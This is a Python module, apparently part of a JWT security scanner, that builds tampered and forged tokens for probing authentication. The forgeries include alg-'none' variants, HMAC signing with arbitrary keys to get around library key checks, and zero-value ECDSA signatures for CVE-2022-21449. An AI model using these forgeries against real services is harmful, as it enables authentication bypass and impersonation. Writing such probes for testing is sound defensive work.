"""Building tokens for probes: tampering with real ones, and signing with a known key."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import secrets
from typing import Any


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def b64url_json(value: dict[str, Any]) -> str:
    return b64url(json.dumps(value, separators=(",", ":")).encode())


def unb64url(segment: str) -> bytes:
    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))


def split(token: str) -> tuple[dict[str, Any], dict[str, Any], str]:
    """Header, payload and raw signature segment of a compact JWS, without any check."""
    header, payload, signature = token.split(".")
    return json.loads(unb64url(header)), json.loads(unb64url(payload)), signature


def with_bad_signature(token: str) -> str:
    """The same header and payload, with a random signature of the same length."""
    header, payload, signature = token.split(".")
    forged = b64url(secrets.token_bytes(max(len(unb64url(signature)), 16)))
    return f"{header}.{payload}.{forged}"


MALFORMED_TOKENS = ("not-a-jwt", "eyJhbGciOiJIUzI1NiJ9.e30", "a.b.c")


# --- signing-input level forgeries ----------------------------------------------------------------


def compact(header: dict[str, Any], payload: dict[str, Any], signature: str = "") -> str:
    return f"{b64url_json(header)}.{b64url_json(payload)}.{signature}"


def signing_input(header: dict[str, Any], payload: dict[str, Any]) -> bytes:
    return f"{b64url_json(header)}.{b64url_json(payload)}".encode()


def hmac_sign(header: dict[str, Any], payload: dict[str, Any], key: bytes) -> str:
    """HMAC with an arbitrary key, bypassing PyJWT's refusal of PEM keys and short secrets."""
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[
        header["alg"]
    ]
    mac = hmac.new(key, signing_input(header, payload), digest).digest()
    return compact(header, payload, b64url(mac))


def alg_none_variants(token: str, payload: dict[str, Any]) -> dict[str, str]:
    """alg none in four casings, each with an empty signature and with the original one kept."""
    header, _claims, signature = split(token)
    variants: dict[str, str] = {}
    for alg in ("none", "None", "NONE", "nOnE"):
        forged_header = {**header, "alg": alg}
        variants[f"alg {alg}, empty signature"] = compact(forged_header, payload)
        variants[f"alg {alg}, original signature"] = compact(forged_header, payload, signature)
    return variants


def psychic_signatures(token: str, payload: dict[str, Any]) -> dict[str, str]:
    """CVE-2022-21449: ECDSA r = s = 0, raw (JOSE) and DER-encoded, for ES256/384/512."""
    header, _claims, _sig = split(token)
    sizes = {"ES256": 32, "ES384": 48, "ES512": 66}
    der_zero = bytes([0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00])
    forged: dict[str, str] = {}
    for alg, size in sizes.items():
        forged_header = {**header, "alg": alg}
        forged[f"{alg} r=s=0 raw"] = compact(forged_header, payload, b64url(bytes(2 * size)))
        forged[f"{alg} r=s=0 DER"] = compact(forged_header, payload, b64url(der_zero))
    return forged
